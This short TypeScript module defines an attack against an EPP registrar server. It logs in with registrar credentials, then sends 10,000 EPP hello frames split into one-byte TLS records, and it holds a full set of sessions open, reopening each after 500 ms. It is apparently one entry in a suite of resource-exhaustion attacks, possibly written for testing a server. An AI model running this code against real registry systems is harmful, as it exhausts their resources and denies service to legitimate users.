import { framed } from '../epp.ts';
import type { Attack } from './attack.ts';
import { loginOf, SESSIONS } from './epp-sessions.ts';
import { holdOpen, openSecure } from './raw-connection.ts';
import { writeRecords } from './tiny-records.ts';

const REOPEN_AFTER_MS = 500;
const HELLOS = 10_000;

/** Valid frames in TLS records of one byte without a pause, in all sessions of a registrar. */
export const eppSessionRecords: Attack = {
  name: 'EPP records of sessions',
  start: ({ eppPort = 0, credentials: { registrar = '' } = {} }) => {
    const hello = framed('<epp xmlns="urn:ietf:params:xml:ns:epp-1.0"><hello/></epp>');
    const hellos = Buffer.concat(Array.from({ length: HELLOS }, () => hello));
    const open = () => {
      const socket = openSecure(eppPort);
      let answers = 0;
      socket.on('data', () => {
        answers += 1;
        if (answers === 1) socket.write(framed(loginOf(registrar)));
        if (answers === 2) void writeRecords(socket, hellos);
      });
      return socket;
    };
    return holdOpen(SESSIONS, open, REOPEN_AFTER_MS);
  },
};
